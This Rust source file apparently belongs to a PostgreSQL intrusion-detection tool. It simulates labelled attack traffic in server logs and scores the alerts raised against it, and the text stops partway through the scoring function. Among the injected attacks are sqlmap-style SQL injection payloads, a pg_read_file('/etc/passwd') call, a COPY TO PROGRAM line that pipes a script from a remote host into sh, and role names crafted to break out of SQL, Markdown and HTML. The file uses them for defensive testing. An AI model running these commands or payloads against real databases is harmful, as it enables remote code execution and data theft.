//! A traffic simulator and a detection evaluator: realistic PostgreSQL logs of several
//! servers over weeks — application pools from fixed cloud regions, people from their office
//! countries, nightly jobs, a new admin and a new application (legitimate changes) — with
//! attacks of every alert type injected and labelled, then detection run over them and scored.
//!
//! Addresses come from the enrichment data itself, so that each simulated client really is
//! where the simulation says (an AWS eu-west-1 address, a German one, a Tor exit).
//!
//! A development tool, not part of the shipped library: `pgvigil sim` and the evaluation of
//! recorded [`corpus`] traces run it.

pub mod corpus;

use enrich::{classify, AddressClass, Enricher};
use model::alert::{Alert, AlertType};
use model::event::{format_time, EventTime};
use serde::{Deserialize, Serialize};
use std::io::Write;
use std::net::{IpAddr, Ipv4Addr};
use std::path::{Path, PathBuf};

pub use model::rng::Rng;

/// An injected attack: what should be detected, where, from what, when.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct Label {
    pub server: String,
    pub alert_type: AlertType,
    /// The source address, or for attacks on a role from many places, the role.
    pub entity: String,
    /// The role the attack used, when one: the real user's next login after an attacker's
    /// can be flagged too (impossible travel), and belongs to the attack.
    #[serde(default)]
    pub principal: Option<String>,
    pub start: EventTime,
    pub start_utc: String,
}

pub struct SimConfig {
    pub format: sources::LogFormat,
    pub servers: usize,
    pub weeks: u32,
    pub seed: u64,
    /// Simulation start, ms since the epoch.
    pub start: EventTime,
    /// Every role named by [`hostile_name`]: for checking what alerts and notifications do
    /// with names that try to break out of SQL, Markdown and HTML.
    pub hostile_names: bool,
}

/// `sql` with the roles it names (after `ROLE`, `USER` or `TO`) made hostile and quoted, as an
/// administrator would have to write them.
fn hostile_statement(sql: &str) -> String {
    let words: Vec<&str> = sql.split(' ').collect();
    let mut out = Vec::with_capacity(words.len());
    for (i, w) in words.iter().enumerate() {
        let after_role = i > 0 && matches!(words[i - 1], "ROLE" | "USER" | "TO");
        if after_role && w.chars().all(|c| c.is_ascii_lowercase() || c == '_') && !w.is_empty() {
            out.push(model::sql::quote_ident(&hostile_name(w)));
        } else {
            out.push(w.to_string());
        }
    }
    out.join(" ")
}

/// `role` made hostile: it closes a string constant, ends an identifier, carries a
/// Markdown link and HTML, and turns the text after it right to left. 63 bytes at most for
/// the simulation's roles, as PostgreSQL's names are.
pub fn hostile_name(role: &str) -> String {
    format!("{role}' OR usename <> '\"[x](https://evil.example)<b>\u{202e}")
}

impl Default for SimConfig {
    fn default() -> Self {
        SimConfig {
            format: sources::LogFormat::Stderr,
            servers: 5,
            weeks: 4,
            seed: 7,
            start: 1_790_000_000_000 - 1_790_000_000_000 % 86_400_000,
            hostile_names: false,
        }
    }
}

struct Pools {
    /// (provider, region) → addresses.
    cloud: Vec<((String, String), Vec<IpAddr>)>,
    /// country → addresses that are not in any cloud.
    country: Vec<(String, Vec<IpAddr>)>,
    tor: Vec<IpAddr>,
}

fn pools(e: &Enricher, rng: &mut Rng, tor: &[IpAddr]) -> Pools {
    let mut cloud: Vec<((String, String), Vec<IpAddr>)> = Vec::new();
    if let Some(c) = e.cloud_ranges() {
        let mut ranges: Vec<(u32, u8, String, String)> = c
            .iter_v4()
            .filter(|(_, len, r)| *len <= 24 && r.region.is_some())
            .map(|(n, l, r)| {
                (
                    n,
                    l,
                    r.provider.to_string(),
                    r.region.clone().unwrap_or_default().to_string(),
                )
            })
            .collect();
        ranges.sort();
        for want in [
            ("AWS", "eu-west-1"),
            ("AWS", "us-east-1"),
            ("AWS", "eu-central-1"),
            ("Oracle Cloud", ""),
            ("Digital Ocean", ""),
        ] {
            let mut ips = Vec::new();
            for (net, len, p, r) in &ranges {
                if p == want.0 && (want.1.is_empty() || r == want.1) && ips.len() < 12 {
                    let host = 1 + rng.below((1u64 << (32 - len)).saturating_sub(2).max(1)) as u32;
                    let ip = IpAddr::V4(Ipv4Addr::from(net + host));
                    let en = e.lookup(ip);
                    if en.cloud_provider.as_deref() == Some(want.0) {
                        ips.push(ip);
                    }
                }
            }
            if !ips.is_empty() {
                let region = e.lookup(ips[0]).cloud_region.unwrap_or_default();
                cloud.push(((want.0.to_string(), region), ips));
            }
        }
    }
    let mut country: Vec<(String, Vec<IpAddr>)> = ["DE", "NL", "US", "BR", "JP"]
        .iter()
        .map(|c| (c.to_string(), Vec::new()))
        .collect();
    for _ in 0..2_000_000 {
        if country.iter().all(|(_, v)| v.len() >= 8) {
            break;
        }
        let ip = IpAddr::V4(Ipv4Addr::from(rng.next_u64() as u32));
        let en = e.lookup(ip);
        if en.class != Some(enrich::AddressClass::Public)
            || en.cloud_provider.is_some()
            || en.tor_exit
        {
            continue;
        }
        if let Some(cc) = &en.country {
            if let Some((_, v)) = country.iter_mut().find(|(c, _)| c == cc) {
                if v.len() < 8 {
                    v.push(ip);
                }
            }
        }
    }
    Pools {
        cloud,
        country,
        tor: tor.to_vec(),
    }
}

/// One log entry to write, in any of the three formats.
pub struct Entry<'a> {
    pub ms: EventTime,
    pub pid: u32,
    pub host: &'a str,
    pub port: u16,
    pub user: &'a str,
    pub db: &'a str,
    pub app: &'a str,
    pub severity: &'a str,
    pub sqlstate: &'a str,
    pub message: String,
    pub detail: Option<String>,
}

/// Writes entries as PostgreSQL 15 does in one format: stderr with Debian's prefix (plus
/// `%h` when asked, for tools that need the address on every line), csvlog, or jsonlog.
pub struct LogWriter<W: Write> {
    out: W,
    format: sources::LogFormat,
    host_in_prefix: bool,
    /// Lines written.
    pub lines: u64,
    buf: String,
}

fn ts(ms: EventTime) -> String {
    let s = format_time(ms);
    format!("{} {} UTC", &s[..10], &s[11..23])
}

fn csv_field(s: &str) -> String {
    if s.is_empty() {
        String::new()
    } else {
        format!("\"{}\"", s.replace('"', "\"\""))
    }
}

impl<W: Write> LogWriter<W> {
    pub fn new(out: W, format: sources::LogFormat, host_in_prefix: bool) -> Self {
        LogWriter {
            out,
            format,
            host_in_prefix,
            lines: 0,
            buf: String::new(),
        }
    }

    pub fn write(&mut self, e: &Entry<'_>) -> std::io::Result<()> {
        use sources::LogFormat;
        use std::fmt::Write as _;
        let t = ts(e.ms);
        self.buf.clear();
        match self.format {
            LogFormat::Pgbouncer => {
                return Err(std::io::Error::new(
                    std::io::ErrorKind::InvalidInput,
                    "the simulator writes PostgreSQL's log formats (stderr, csvlog, jsonlog)",
                ))
            }
            LogFormat::Stderr => {
                let (u, d) = if e.user.is_empty() {
                    ("[unknown]", "[unknown]")
                } else {
                    (e.user, e.db)
                };
                let host = if self.host_in_prefix {
                    format!("{} ", e.host)
                } else {
                    String::new()
                };
                let _ = writeln!(
                    self.buf,
                    "{t} [{}] {u}@{d} {host}{}:  {}",
                    e.pid, e.severity, e.message
                );
                self.lines += 1;
                if let Some(det) = &e.detail {
                    let mut parts = det.split('\n');
                    let _ = writeln!(
                        self.buf,
                        "{t} [{}] {u}@{d} {host}DETAIL:  {}",
                        e.pid,
                        parts.next().unwrap_or("")
                    );
                    self.lines += 1;
                    for p in parts {
                        let _ = writeln!(self.buf, "\t{p}");
                        self.lines += 1;
                    }
                }
            }
            LogFormat::Csvlog => {
                // A unix-socket client (`[local]`, port 0) has no port.
                let from = if e.port == 0 {
                    e.host.to_string()
                } else {
                    format!("{}:{}", e.host, e.port)
                };
                let _ = writeln!(
                    self.buf,
                    "{t},{},{},{},\"{from}\",6b0a0000.{:x},1,,{t},3/1,0,{},{},{},{},,,,,,,,{},\"client backend\",,0",
                    csv_field(e.user),
                    csv_field(e.db),
                    e.pid,
                    e.pid,
                    e.severity,
                    e.sqlstate,
                    csv_field(&e.message),
                    e.detail.as_deref().map(csv_field).unwrap_or_default(),
                    csv_field(e.app),
                );
                self.lines += 1 + e
                    .detail
                    .as_deref()
                    .map_or(0, |d| d.matches('\n').count() as u64);
            }
            LogFormat::Jsonlog => {
                // Empty keys are omitted, as PostgreSQL does.
                let mut o = serde_json::Map::new();
                o.insert("timestamp".into(), t.clone().into());
                if !e.user.is_empty() {
                    o.insert("user".into(), e.user.into());
                    o.insert("dbname".into(), e.db.into());
                }
                o.insert("pid".into(), e.pid.into());
                o.insert("remote_host".into(), e.host.into());
                if e.port != 0 {
                    o.insert("remote_port".into(), e.port.into());
                }
                o.insert("session_id".into(), format!("6b0a0000.{:x}", e.pid).into());
                o.insert("line_num".into(), 1.into());
                o.insert("session_start".into(), t.into());
                o.insert("error_severity".into(), e.severity.into());
                o.insert("state_code".into(), e.sqlstate.into());
                o.insert("message".into(), e.message.clone().into());
                if let Some(d) = &e.detail {
                    o.insert("detail".into(), d.clone().into());
                }
                if !e.app.is_empty() {
                    o.insert("application_name".into(), e.app.into());
                }
                o.insert("backend_type".into(), "client backend".into());
                o.insert("query_id".into(), 0.into());
                self.buf.push_str(&serde_json::Value::Object(o).to_string());
                self.buf.push('\n');
                self.lines += 1;
            }
        }
        self.out.write_all(self.buf.as_bytes())
    }

    pub fn flush(&mut self) -> std::io::Result<()> {
        self.out.flush()
    }
}

/// One server's log, written through a [`LogWriter`]: whole sessions, failures and probes as
/// PostgreSQL 15 logs them with `log_connections` and `log_disconnections`.
pub struct Log<W: Write> {
    pub w: LogWriter<W>,
    pub pid: u32,
}

impl<W: Write> Log<W> {
    // Every field of an entry, positionally: this is the one place that builds them.
    #[allow(clippy::too_many_arguments)]
    fn entry(
        &mut self,
        t: EventTime,
        ip: IpAddr,
        role: &str,
        db: &str,
        app: &str,
        sev: &str,
        state: &str,
        msg: String,
        detail: Option<String>,
    ) -> std::io::Result<()> {
        let host = ip.to_string();
        self.w.write(&Entry {
            ms: t,
            pid: self.pid,
            host: &host,
            port: (30000 + self.pid % 30000) as u16,
            user: role,
            db,
            app,
            severity: sev,
            sqlstate: state,
            message: msg,
            detail,
        })
    }

    pub fn received(&mut self, t: EventTime, ip: IpAddr) -> std::io::Result<()> {
        self.pid += 1;
        let msg = format!(
            "connection received: host={ip} port={}",
            30000 + self.pid % 30000
        );
        self.entry(t, ip, "", "", "", "LOG", "00000", msg, None)
    }

    pub fn session(
        &mut self,
        t: EventTime,
        ip: IpAddr,
        role: &str,
        db: &str,
        app: &str,
    ) -> std::io::Result<()> {
        self.statements(t, ip, role, db, app, &[])
    }

    /// A session running statements (logged as with `log_statement = 'all'`).
    pub fn statements(
        &mut self,
        t: EventTime,
        ip: IpAddr,
        role: &str,
        db: &str,
        app: &str,
        stmts: &[String],
    ) -> std::io::Result<()> {
        self.received(t, ip)?;
        let msg =
            format!("connection authorized: user={role} database={db} application_name={app}");
        self.entry(t, ip, role, db, "", "LOG", "00000", msg, None)?;
        for (i, stmt) in stmts.iter().enumerate() {
            let msg = format!("statement: {stmt}");
            let at = t + 1000 + 100 * i as i64;
            self.entry(at, ip, role, db, app, "LOG", "00000", msg, None)?;
        }
        let msg = format!(
            "disconnection: session time: 0:00:05.000 user={role} database={db} host={ip} port={}",
            30000 + self.pid % 30000
        );
        self.entry(t + 5000, ip, role, db, app, "LOG", "00000", msg, None)
    }

    pub fn failure(
        &mut self,
        t: EventTime,
        ip: IpAddr,
        role: &str,
        db: &str,
        exists: bool,
    ) -> std::io::Result<()> {
        self.received(t, ip)?;
        let hba =
            "Connection matched pg_hba.conf line 99: \"host all all 0.0.0.0/0 scram-sha-256\"";
        let detail = if exists {
            hba.to_string()
        } else {
            format!("Role \"{role}\" does not exist.\n{hba}")
        };
        let msg = format!("password authentication failed for user \"{role}\"");
        self.entry(t, ip, role, db, "", "FATAL", "28P01", msg, Some(detail))
    }

    pub fn probe(&mut self, t: EventTime, ip: IpAddr) -> std::io::Result<()> {
        self.received(t, ip)?;
        self.entry(
            t,
            ip,
            "",
            "",
            "",
            "LOG",
            "08P01",
            "invalid length of startup packet".into(),
            None,
        )
    }
}

/// What an application session runs: the everyday queries, literals and all.
fn app_statements(rng: &mut Rng, role: &str) -> Vec<String> {
    let n = rng.below(100_000);
    match (role, rng.below(4)) {
        ("orders", 0) => vec![format!(
            "SELECT id, total, status FROM orders WHERE customer_id = {n} AND status = 'open'"
        )],
        ("orders", 1) => vec![
            "BEGIN".into(),
            format!("UPDATE orders SET status = 'paid', paid_at = now() WHERE id = {n}"),
            format!(
                "INSERT INTO audit_log(at, actor, action) VALUES (now(), 'orders', 'paid {n}')"
            ),
            "COMMIT".into(),
        ],
        ("orders", 2) => vec![
            "SELECT * FROM orders WHERE 1=1 AND created_at > '2026-01-01' ORDER BY id DESC LIMIT 50"
                .into(),
        ],
        ("billing", 0) => vec![format!(
            "SELECT sum(amount) FROM invoices WHERE period = '2026-{:02}' AND customer_id = {n}",
            1 + n % 12
        )],
        ("billing", 1) => vec![format!(
            "INSERT INTO invoices(customer_id, amount) VALUES ({n}, {}.{:02}) RETURNING id",
            n % 900,
            n % 100
        )],
        _ => vec![],
    }
}

/// What pg_dump runs, in short.
fn dump_statements() -> Vec<String> {
    [
        "SELECT pg_catalog.set_config('search_path', '', false)",
        "LOCK TABLE public.orders IN ACCESS SHARE MODE",
        "LOCK TABLE public.invoices IN ACCESS SHARE MODE",
        "COPY public.orders (id, customer_id, total, status) TO stdout;",
        "COPY public.invoices (id, customer_id, amount) TO stdout;",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

/// An entry of the simulated timeline, written in time order at the end.
enum Act {
    Session(IpAddr, String, &'static str, &'static str),
    /// A session running statements: (address, role, database, application, statements).
    Work(IpAddr, String, &'static str, &'static str, Vec<String>),
    Failure(IpAddr, String, &'static str, bool),
    /// A connection that never logs in: garbage (`true`: a scanner) or nothing at all.
    Probe(IpAddr, bool),
}

/// Writes `<out>/<server>/postgresql.log` for each server and `<out>/labels.jsonl`.
pub fn simulate(
    cfg: &SimConfig,
    e: &Enricher,
    tor: &[IpAddr],
    out: &Path,
) -> std::io::Result<Vec<Label>> {
    let mut rng = Rng(cfg.seed | 1);
    let p = pools(e, &mut rng, tor);
    if p.cloud.len() < 4 || p.country.iter().any(|(_, v)| v.is_empty()) {
        return Err(std::io::Error::other(
            "the enrichment data has too few cloud ranges or countries to simulate clients (is the shipped data there?)",
        ));
    }
    let country = |c: &str| {
        p.country
            .iter()
            .find(|(x, _)| x == c)
            .map(|(_, v)| v.clone())
            .unwrap_or_default()
    };
    let (de, nl, us, br, jp) = (
        country("DE"),
        country("NL"),
        country("US"),
        country("BR"),
        country("JP"),
    );
    let minute = 60_000i64;
    let day = 86_400_000i64;
    let end = cfg.start + cfg.weeks as i64 * 7 * day;
    let mut labels = Vec::new();
    // Reverse DNS of the simulated clients (`ptr.txt`, read by `eval` as a hosts file).
    let mut ptr: Vec<(IpAddr, String)> = Vec::new();
    for s in 0..cfg.servers {
        let server = format!("db{}", s + 1);
        let mut acts: Vec<(EventTime, Act)> = Vec::new();
        let (home_cloud, other_region, other_provider) =
            (&p.cloud[s % 2].1, &p.cloud[2].1, &p.cloud[3].1);
        // Application pools: every 10 minutes, from their cloud region.
        for (i, role) in ["orders", "billing"].iter().enumerate() {
            let mut t = cfg.start + i as i64 * 137_000;
            while t < end {
                let work = app_statements(&mut rng, role);
                acts.push((
                    t,
                    Act::Work(
                        *rng.pick(home_cloud),
                        role.to_string(),
                        "appdb",
                        "pgx",
                        work,
                    ),
                ));
                t += 10 * minute + rng.below(60_000) as i64;
            }
        }
        // People: working days 8-18 UTC, from their office country; sometimes a typo.
        let people: [(&str, &Vec<IpAddr>, &'static str); 3] = [
            ("alice", &de, "psql"),
            ("bob", &nl, "pgAdmin 4"),
            ("carol", &de, "DBeaver 24.1"),
        ];
        for d in 0..(cfg.weeks as i64 * 7) {
            if d % 7 >= 5 {
                continue;
            }
            for (who, office, app) in &people {
                if d == 10 && *who == "bob" {
                    continue; // travelling: see below
                }
                for _ in 0..3 {
                    let t = cfg.start + d * day + 8 * 3_600_000 + rng.below(10 * 3_600_000) as i64;
                    let ip = *rng.pick(office);
                    // Typos: one to five, each a few seconds apart, each one failure twice
                    // over (libpq retries without TLS at once) after a bare connection (psql
                    // asks for the password on a first connection it then drops).
                    if rng.below(12) == 0 {
                        let typos = 1 + rng.below(5) as i64;
                        let mut at = t;
                        for _ in 0..typos {
                            at -= 3_000 + rng.below(4_000) as i64;
                            acts.push((at - 2_500, Act::Probe(ip, false)));
                            acts.push((at, Act::Failure(ip, who.to_string(), "appdb", true)));
                            acts.push((at + 6, Act::Failure(ip, who.to_string(), "appdb", true)));
                        }
                    }
                    acts.push((t, Act::Session(ip, who.to_string(), "appdb", app)));
                }
            }
            // Business travel: bob works from the other office (a country the server knows).
            if d == 10 {
                let t = cfg.start + d * day + 12 * 3_600_000;
                acts.push((
                    t,
                    Act::Session(*rng.pick(&de), "bob".into(), "appdb", "pgAdmin 4"),
                ));
            }
        }
        // Nightly job from the private network.
        for d in 0..(cfg.weeks as i64 * 7) {
            let ip: IpAddr = "10.20.0.5"
                .parse()
                .unwrap_or(IpAddr::V4(Ipv4Addr::LOCALHOST));
            acts.push((
                cfg.start + d * day + 2 * 3_600_000,
                Act::Work(ip, "etl".into(), "appdb", "pg_dump", dump_statements()),
            ));
        }
        // Legitimate changes after the learning period: a new admin, a new application, each
        // role created by an admin first (the server logs DDL: log_statement = 'ddl').
        let change = cfg.start + 9 * day + 10 * 3_600_000;
        let office = *rng.pick(&de);
        acts.push((
            change - 1_800_000,
            Act::Work(
                office,
                "carol".into(),
                "appdb",
                "DBeaver 24.1",
                vec!["CREATE ROLE dave_admin LOGIN CREATEROLE PASSWORD 'Welcome-2026!'".into()],
            ),
        ));
        acts.push((
            change + 1_800_000,
            Act::Work(
                office,
                "carol".into(),
                "appdb",
                "DBeaver 24.1",
                vec![
                    "CREATE USER reports PASSWORD 'rep0rts-Svc'".into(),
                    "GRANT SELECT ON ALL TABLES IN SCHEMA public TO reports".into(),
                ],
            ),
        ));
        for k in 0..5 {
            acts.push((
                change + k * day,
                Act::Session(*rng.pick(&de), "dave_admin".into(), "postgres", "psql"),
            ));
            acts.push((
                change + 3_600_000 + k * day,
                Act::Session(*rng.pick(home_cloud), "reports".into(), "appdb", "pgx"),
            ));
        }

        // The normal clients have names: offices in the company's domain, application
        // servers in their cloud's.
        let mut named: std::collections::HashSet<IpAddr> = ptr.iter().map(|(ip, _)| *ip).collect();
        for (_, a) in &acts {
            let ip = match a {
                Act::Session(ip, ..) | Act::Work(ip, ..) => *ip,
                _ => continue,
            };
            if !named.insert(ip) || classify(ip) != AddressClass::Public {
                continue;
            }
            let host = ip.to_string().replace(['.', ':'], "-");
            let name = if home_cloud.contains(&ip) {
                format!("vm-{host}.compute.example-cloud.net")
            } else {
                format!("ws-{host}.office.example-corp.com")
            };
            ptr.push((ip, name));
        }

        // Attacks, each once per server, after the learning period, labelled.
        let mut at = cfg.start + 8 * day + s as i64 * 3_600_000;
        let mut label = |ty: AlertType, entity: String, principal: Option<&str>, t: EventTime| {
            labels.push(Label {
                server: server.clone(),
                alert_type: ty,
                entity,
                principal: principal.map(str::to_string),
                start: t,
                start_utc: format_time(t),
            });
        };
        let mut next = |rng: &mut Rng| {
            at += 2 * day + rng.below(day as u64) as i64 / 2;
            at.min(end - day)
        };
        // Brute force on a real role, then success, at intensities around the thresholds: a
        // tool stopping at the password after 5 tries (ncrack: milliseconds apart), 11 tries
        // at a person's pace (one every 20 s), or a long run.
        let t = next(&mut rng);
        let src = *rng.pick(&us);
        let (tries, gap) = match s % 3 {
            0 => (5, 3),
            1 => (11, 20_000),
            _ => (25, 2_000),
        };
        for k in 0..tries {
            acts.push((
                t + k * gap,
                Act::Failure(src, "orders".into(), "appdb", true),
            ));
        }
        acts.push((
            t + tries * gap + 40,
            Act::Session(src, "orders".into(), "appdb", ""),
        ));
        label(AlertType::BruteForce, src.to_string(), Some("orders"), t);
        // Spray: many roles, a few tries each; slowly over five roles, or at a tool's pace
        // over three.
        let t = next(&mut rng);
        let src = *rng.pick(&jp);
        let (roles, gap): (&[&str], i64) = if s % 2 == 0 {
            (&["admin", "root", "test", "oracle", "postgres"], 3_000)
        } else {
            (&["admin", "root", "postgres"], 40)
        };
        for (k, role) in roles.iter().enumerate() {
            for j in 0..2 {
                acts.push((
                    t + (k * 2 + j) as i64 * gap,
                    Act::Failure(src, role.to_string(), "postgres", *role == "postgres"),
                ));
            }
        }
        label(AlertType::PasswordSpray, src.to_string(), None, t);
        // Distributed: five addresses, four tries each, on postgres (just at the threshold).
        let t = next(&mut rng);
        for k in 0..20 {
            let src = br[k % br.len().clamp(1, 5)];
            acts.push((
                t + k as i64 * 5000,
                Act::Failure(src, "postgres".into(), "postgres", true),
            ));
        }
        label(AlertType::DistributedBruteForce, "postgres".into(), None, t);
        // hydra: template1, no application_name; three tries.
        let t = next(&mut rng);
        let src = *rng.pick(&us);
        for k in 0..3 {
            acts.push((
                t + k * 500,
                Act::Failure(src, "postgres".into(), "template1", true),
            ));
        }
        label(AlertType::HarmfulApplication, src.to_string(), None, t);
        // nmap -sV: garbage startup packets.
        let t = next(&mut rng);
        let src = *rng.pick(&jp);
        for k in 0..6 {
            acts.push((t + k * 100, Act::Probe(src, true)));
        }
        label(AlertType::Probe, src.to_string(), None, t);
        // Tor exit logs in as alice.
        if let Some(src) = p.tor.get(s % p.tor.len().max(1)).copied() {
            let t = next(&mut rng);
            acts.push((t, Act::Session(src, "alice".into(), "appdb", "psql")));
            label(
                AlertType::SuspiciousIpAnomaly,
                src.to_string(),
                Some("alice"),
                t,
            );
        }
        // alice from Brazil, days after her last login from Germany: a new country.
        let t = next(&mut rng) + 3 * 3_600_000;
        let src = *rng.pick(&br);
        acts.push((t, Act::Session(src, "alice".into(), "appdb", "psql")));
        label(AlertType::GeoAnomaly, src.to_string(), Some("alice"), t);
        // carol from Germany, then 20 minutes later from Japan: impossible travel.
        let t = next(&mut rng) + 12 * 3_600_000;
        acts.push((
            t,
            Act::Session(*rng.pick(&de), "carol".into(), "appdb", "DBeaver 24.1"),
        ));
        let src = *rng.pick(&jp);
        acts.push((
            t + 20 * minute,
            Act::Session(src, "carol".into(), "appdb", "DBeaver 24.1"),
        ));
        label(
            AlertType::ImpossibleTravel,
            src.to_string(),
            Some("carol"),
            t + 20 * minute,
        );
        // The orders service's role from another region of its provider, then another provider.
        let t = next(&mut rng);
        let src = *rng.pick(other_region);
        acts.push((t, Act::Session(src, "billing".into(), "appdb", "pgx")));
        label(
            AlertType::DataCenterAnomaly,
            src.to_string(),
            Some("billing"),
            t,
        );
        let t = next(&mut rng);
        let src = *rng.pick(other_provider);
        acts.push((t, Act::Session(src, "billing".into(), "appdb", "pgx")));
        label(
            AlertType::CloudProviderAnomaly,
            src.to_string(),
            Some("billing"),
            t,
        );
        // A role nobody has used logs in from the office.
        let t = next(&mut rng);
        acts.push((
            t,
            Act::Session(*rng.pick(&de), "backup_old".into(), "appdb", "psql"),
        ));
        label(
            AlertType::PrincipalAnomaly,
            "backup_old".into(),
            Some("backup_old"),
            t,
        );

        // A known person from a known country, but from a host in a domain the server has
        // never seen (a home ISP, a rented server).
        let t = next(&mut rng);
        // An address of the office country that no normal client uses: a neighbour of one.
        let src = de
            .iter()
            .filter_map(|ip| match ip {
                IpAddr::V4(v4) => Some(*v4),
                IpAddr::V6(_) => None,
            })
            .flat_map(|v4| {
                let o = v4.octets();
                (1..=254u8).map(move |last| IpAddr::V4(Ipv4Addr::new(o[0], o[1], o[2], last)))
            })
            .find(|c| {
                !named.contains(c)
                    && !de.contains(c)
                    && e.lookup(*c).country.as_deref() == Some("DE")
            })
            .ok_or_else(|| std::io::Error::other("no spare address in the office country"))?;
        ptr.push((
            src,
            format!(
                "dyn-{}.pool.isp-example.de",
                src.to_string().replace('.', "-")
            ),
        ));
        acts.push((t, Act::Session(src, "alice".into(), "appdb", "psql")));
        label(AlertType::DomainAnomaly, src.to_string(), Some("alice"), t);

        // SQL injection through the orders application: sqlmap's payloads in its queries.
        let t = next(&mut rng);
        let payloads = [
            "1 AND 4521=4521",
            "1 AND 4521=7390",
            "1 AND 7290=(SELECT 7290 FROM PG_SLEEP(5))",
            "1;SELECT PG_SLEEP(5)--",
            "1 UNION ALL SELECT NULL,NULL,NULL-- x",
            "1 UNION ALL SELECT NULL,(CHR(113)||CHR(106)||CHR(98)||CHR(107)||CHR(113)),NULL-- x",
            "1 AND 5521=(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))",
        ];
        let work = payloads
            .iter()
            .map(|p| format!("SELECT id, total, status FROM orders WHERE id = {p}"))
            .collect();
        acts.push((
            t,
            Act::Work(*rng.pick(home_cloud), "orders".into(), "appdb", "pgx", work),
        ));
        label(AlertType::SqlInjection, "orders".into(), Some("orders"), t);
        // A stolen superuser password: commands on the server, its files read.
        let t = next(&mut rng);
        let src = *rng.pick(&us);
        let work = vec![
            "SELECT pg_read_file('/etc/passwd')".into(),
            "COPY (SELECT '') TO PROGRAM 'curl -s http://198.51.100.7/x.sh | sh'".into(),
        ];
        acts.push((
            t,
            Act::Work(src, "postgres".into(), "postgres", "psql", work),
        ));
        label(
            AlertType::UnsafeAction,
            src.to_string(),
            Some("postgres"),
            t,
        );
        // An admin's session makes an application role superuser.
        let t = next(&mut rng);
        let work = vec!["ALTER ROLE billing WITH SUPERUSER".into()];
        acts.push((
            t,
            Act::Work(office, "carol".into(), "appdb", "DBeaver 24.1", work),
        ));
        label(
            AlertType::PrivilegeEscalation,
            office.to_string(),
            Some("carol"),
            t,
        );
        // The billing role's password used to dump the database from elsewhere.
        let t = next(&mut rng);
        let src = *rng.pick(&jp);
        acts.push((
            t,
            Act::Work(src, "billing".into(), "appdb", "pg_dump", dump_statements()),
        ));
        label(
            AlertType::DataExfiltration,
            src.to_string(),
            Some("billing"),
            t,
        );

        acts.sort_by_key(|(t, _)| *t);
        let dir = out.join(&server);
        std::fs::create_dir_all(&dir)?;
        let name = match cfg.format {
            sources::LogFormat::Stderr => "postgresql.log",
            sources::LogFormat::Csvlog => "postgresql.csv",
            sources::LogFormat::Jsonlog => "postgresql.json",
            sources::LogFormat::Pgbouncer => {
                return Err(std::io::Error::new(
                    std::io::ErrorKind::InvalidInput,
                    "the simulator writes PostgreSQL's log formats (stderr, csvlog, jsonlog)",
                ))
            }
        };
        let file = std::io::BufWriter::new(std::fs::File::create(dir.join(name))?);
        let mut log = Log {
            w: LogWriter::new(file, cfg.format, false),
            pid: 1000,
        };
        let name = |role: String| {
            if cfg.hostile_names {
                hostile_name(&role)
            } else {
                role
            }
        };
        for (t, a) in acts {
            let a = match a {
                Act::Session(ip, role, db, app) => Act::Session(ip, name(role), db, app),
                Act::Work(ip, role, db, app, s) => {
                    let s = if cfg.hostile_names {
                        s.iter().map(|q| hostile_statement(q)).collect()
                    } else {
                        s
                    };
                    Act::Work(ip, name(role), db, app, s)
                }
                Act::Failure(ip, role, db, exists) => Act::Failure(ip, name(role), db, exists),
                probe => probe,
            };
            match a {
                Act::Session(ip, role, db, app) => log.session(t, ip, &role, db, app)?,
                Act::Work(ip, role, db, app, stmts) => {
                    log.statements(t, ip, &role, db, app, &stmts)?
                }
                Act::Failure(ip, role, db, exists) => log.failure(t, ip, &role, db, exists)?,
                Act::Probe(ip, true) => log.probe(t, ip)?,
                Act::Probe(ip, false) => log.received(t, ip)?,
            }
        }
        log.w.flush()?;
    }
    let mut f = std::io::BufWriter::new(std::fs::File::create(out.join("ptr.txt"))?);
    writeln!(
        f,
        "# reverse DNS of the simulated clients (enrich.reverse_dns.hosts_file)"
    )?;
    for (ip, name) in &ptr {
        writeln!(f, "{ip} {name}")?;
    }
    f.flush()?;
    if cfg.hostile_names {
        for l in &mut labels {
            l.principal = l.principal.as_deref().map(hostile_name);
            if l.entity.parse::<IpAddr>().is_err() {
                l.entity = hostile_name(&l.entity);
            }
        }
    }
    let mut f = std::io::BufWriter::new(std::fs::File::create(out.join("labels.jsonl"))?);
    for l in &labels {
        serde_json::to_writer(&mut f, l)?;
        f.write_all(b"\n")?;
    }
    f.flush()?;
    Ok(labels)
}

/// Scores of one alert type.
#[derive(Debug, Default, Clone, Serialize)]
pub struct Score {
    pub tp: u32,
    pub fp: u32,
    pub fn_: u32,
    pub delays_ms: Vec<i64>,
}

/// An alert matches a label when it is of the label's type (or lists it among the anomalies
/// folded into it), on its server, about its entity, and starts within an hour of the attack.
fn matches(a: &Alert, l: &Label) -> bool {
    let ty = a.alert_type == l.alert_type
        || a.evidence.value()["alsoUnusual"]
            .as_array()
            .is_some_and(|v| v.iter().any(|x| x["alertType"] == l.alert_type.as_str()));
    let entity = a.entities.source_ip.as_deref() == Some(l.entity.as_str())
        || a.entities.principal.as_deref() == Some(l.entity.as_str());
    let start = chrono::DateTime::parse_from_rfc3339(&a.start_time_utc)
        .map(|d| d.timestamp_millis())
        .unwrap_or(0);
    let end = chrono::DateTime::parse_from_rfc3339(&a.end_time_utc)
        .map(|d| d.timestamp_millis())
        .unwrap_or(0);
    ty && entity && a.server == l.server && end >= l.start && start <= l.start + 3_600_000
}

/// An alert about a labelled attack without being its match: another detection of the same
/// source or role (a brute force that is also a harmful application), or the real user's
/// next login right after an attacker's, flagged as impossible travel.
fn related(a: &Alert, l: &Label) -> bool {
    if a.server != l.server {
        return false;
    }
    let entity = a.entities.source_ip.as_deref() == Some(l.entity.as_str())
        || a.entities.principal.as_deref() == Some(l.entity.as_str());
    let start = chrono::DateTime::parse_from_rfc3339(&a.start_time_utc)
        .map(|d| d.timestamp_millis())
        .unwrap_or(0);
    let after = l.principal.is_some()
        && a.entities.principal == l.principal
        && (l.start..=l.start + 2 * 3_600_000).contains(&start);
    entity || after
}

/// Alerts that match no label and are about nothing labelled: the false positives.
pub fn unexplained<'a>(alerts: &'a [Alert], labels: &[Label]) -> Vec<&'a Alert> {
    alerts
        .iter()
        .filter(|a| !labels.iter().any(|l| related(a, l)))
        .collect()
}

/// Scores alerts against labels, per alert type. `detected[i]` is when alert `i` was first
/// raised (event time), for the time from attack start to alert.
pub fn score(
    alerts: &[Alert],
    detected: &[EventTime],
